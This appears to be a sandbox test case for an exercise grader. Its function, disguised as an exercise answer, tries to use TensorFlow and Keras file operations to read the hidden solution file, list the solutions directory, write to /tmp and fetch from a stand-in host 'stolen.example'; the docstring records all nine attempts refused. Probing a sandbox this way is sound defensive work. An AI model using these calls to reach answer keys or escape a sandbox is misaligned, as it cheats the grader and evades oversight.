"""Files through TensorFlow.

Tries: read and write what Python may not, by operations of the runtime.
Must happen: the kernel refuses them as well.

with: steal
earns: 0
says: 9 of 9 refused
"""

import keras
import tensorflow as tf


def count_dense_parameters(sizes):
    solution = f"{course}/solutions/ex11_mlp.py"
    attempt(lambda: tf.io.read_file(solution).numpy())
    attempt(lambda: tf.io.gfile.GFile(solution).read())
    attempt(lambda: tf.io.gfile.listdir(f"{course}/solutions"))
    attempt(lambda: tf.io.gfile.glob(f"{course}/solutions/*")[0])
    attempt(lambda: next(iter(tf.data.TextLineDataset(solution))).numpy())
    attempt(lambda: tf.io.write_file("/tmp/neurokata-attack", b"written").numpy())
    attempt(lambda: tf.io.gfile.makedirs("/tmp/neurokata-attack"))
    attempt(lambda: keras.Sequential([keras.layers.Dense(1)]).save("/tmp/neurokata-attack.keras"))
    attempt(lambda: keras.utils.get_file("/tmp/neurokata-attack", "http://stolen.example/"))
    report()
